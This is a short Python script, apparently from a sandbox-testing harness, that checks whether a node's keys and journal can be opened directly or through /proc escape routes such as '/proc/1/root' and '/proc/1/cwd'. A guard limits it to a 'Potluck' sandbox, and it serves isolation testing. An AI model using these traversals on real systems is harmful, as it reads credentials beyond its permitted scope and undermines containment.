"""Opens the node's keys and journal by their paths, as they are on the host and by the ways around."""

import os

if os.environ.get("POTLUCK_SANDBOX") != "1" or os.uname().nodename != "potluck" or os.getuid() == 0:
    raise SystemExit("This program attacks its surroundings. It runs only inside a Potluck sandbox.")

import contextlib

WAYS = ("", "/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../../..", "/proc/1/cwd")


def attack(paths: list[str]) -> list[str]:
    return [way + path for way in WAYS for path in paths if opens(way + path)]


def opens(path: str) -> bool:
    with contextlib.suppress(OSError), open(path, "rb"):
        return True
    return False
